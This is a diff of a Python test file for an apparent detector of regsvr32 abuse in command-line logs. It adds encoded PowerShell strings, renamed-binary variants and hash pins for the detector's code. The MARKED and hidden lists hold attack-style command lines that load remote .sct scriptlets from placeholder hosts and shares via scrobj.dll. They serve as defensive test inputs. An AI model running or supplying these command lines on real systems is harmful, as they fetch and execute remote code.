@@ -35,11 +35,18 @@ PLAIN = ["", "-", "0", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p", "C
          "$5 $$", "x" * 300, " lead and trail ", "\tTab", "100%", "powershell -NoProfile -File a.ps1",
          "pwsh Get-Item", "K\u212a sign", "\u0130:HTTP is not a mark",
          # a hint and "-e", but no base64 run long enough to hide "regsvr32" (22 characters)
-         "powershell -ExecutionPolicy Bypass -enc aGVsbG8=", "pwsh -e cgBlAGcAcwB2AHIAMwAyA"]
+         "powershell -ExecutionPolicy Bypass -enc aGVsbG8=", "pwsh -e cgBlAGcAcwB2AHIAMwAyA",
+         # "i:", but no share, URL or scrobj once quotes are dropped; an encoded command, no PowerShell
+         "msiexec /i:x.msi /qn", 'setup.exe "/i:C:\\x\\y.ini"', "x.exe -enc cgBlAGcAcwB2AHIAMwAyAA=="]
 MARKED = ["REGSVR32 /s x.dll", "C:\\Windows\\SysWOW64\\RegSvr32.exe", "Microsoft(C) REGISTER Server",
           "SCROBJ.DLL", "HKCU\\Software\\Classes\\CLSID\\{x}\\ScriptletURL", "/I:HTTPS://a.example/b.sct",
           "powershell -E cgBlAGcAcwB2AHIAMwAyAA==", "PWSH -enc eAByAGUAZwBzAHYAcgAzADIA",
-          '"regsvr32" /u "a,b.dll"']
+          '"regsvr32" /u "a,b.dll"',
+          # a renamed copy's command line (fields.RUNS_LIKE) and encoded PowerShell, any switch prefix
+          "svc.exe /s /i:\\\\10.1.2.3\\s\\a.sct x.dll", 'svc.exe /s /i:"http://h.example/a.sct" x.dll',
+          'svc.exe /s /I:C:\\x\\a.sct SCR""OBJ.dll', "svc.exe /i://h/s/a.sct x.dll",
+          "svc.exe /i:\\??\\UNC\\h\\s\\a.sct x.dll", "powershell /enc cgBlAGcAcwB2AHIAMwAyAA==",
+          "pwsh \u2013e 'eAByAGUAZwBzAHYAcgAzADIA'", 'powershell -ec "cgBlAGcAcwB2AHIAMwAyAA=="']
 FIELDS = ["_time", "host", "CommandLine", "Image", "ParentImage", "User", "note", "EventCode"]
 
 
@@ -181,11 +188,17 @@ def test_slices_prove_and_mark_as_the_whole_chunk(monkeypatch):
             assert sliced[0].marked == whole[0].marked
 
 
-# What regsvr32_fastpath.BLOB's proof reads (see there): if one of these changes, check that a row
-# with a hint and "-e" but no base64 run of 22 characters still cannot concern regsvr32, then
-# update its hash here.
+# What regsvr32_fastpath.BLOB's proof reads (see there), and the "i:" test it repeats on bytes
+# (RUNS_LIKE, SLASHED): if one of these changes, check that a row with a hint but no match of
+# BLOB still cannot concern regsvr32, and that _holds still marks every row with "i:" that
+# mentions_regsvr32 passes (tests/test_cheap_test.py looks), then update its hash here.
 BLOB_PROOF_PINS = {
-    "fields.mentions_regsvr32": (lambda: inspect.getsource(fields.mentions_regsvr32), "8a625a3bde41e077"),
+    "fields.mentions_regsvr32": (lambda: inspect.getsource(fields.mentions_regsvr32), "1a45a90293b98b98"),
+    "fields.RUNS_LIKE": (lambda: repr(fields.RUNS_LIKE), "087ec1a2eb3abfdd"),
+    "fields.ENCODED_HINTS": (lambda: repr(fields.ENCODED_HINTS), "04ce81269af70271"),
+    "cmdline.has_encoded_switch": (lambda: inspect.getsource(cmdline.has_encoded_switch), "04e7a7530efe53a5"),
+    "cmdline._ENCODED_SWITCH": (lambda: "%s %d" % (cmdline._ENCODED_SWITCH.pattern, cmdline._ENCODED_SWITCH.flags),
+                                "5199b6d089c3b005"),
     "cmdline.encoded_commands": (lambda: inspect.getsource(cmdline.encoded_commands), "9d122b9db6a599f0"),
     "cmdline._ENCODED": (lambda: "%s %d" % (cmdline._ENCODED.pattern, cmdline._ENCODED.flags),
                          "fb973374bbf16f29"),
@@ -201,7 +214,9 @@ def test_the_code_the_blob_proof_reads_is_pinned(name):
 def test_every_row_left_unmarked_cannot_concern_regsvr32():
     # fields.mentions_regsvr32 is the definition: plan may mark more rows, never fewer
     hidden = ["powershell -e cgBlAGcAcwB2AHIAMwAyAA==", "powershell x -enc eAByAGUAZwBzAHYAcgAzADIA y",
-              "pwsh.exe -EncodedCommand cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=="]
+              "pwsh.exe -EncodedCommand cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==",
+              "powershell.exe /ec cgBlAGcAcwB2AHIAMwAyAA==", 'pwsh \u2014enc "eAByAGUAZwBzAHYAcgAzADIA"',
+              "svc.exe /i:\\\\h\\s\\a.sct x.dll", 'svc.exe /i:C:\\a.sct "scr""obj.dll"']
     checked = 0
     for body, _ in generated_bodies(5) + [(cim_body([{"CommandLine": v, "host": "h"}
                                                      for v in PLAIN + hidden]), None)]:
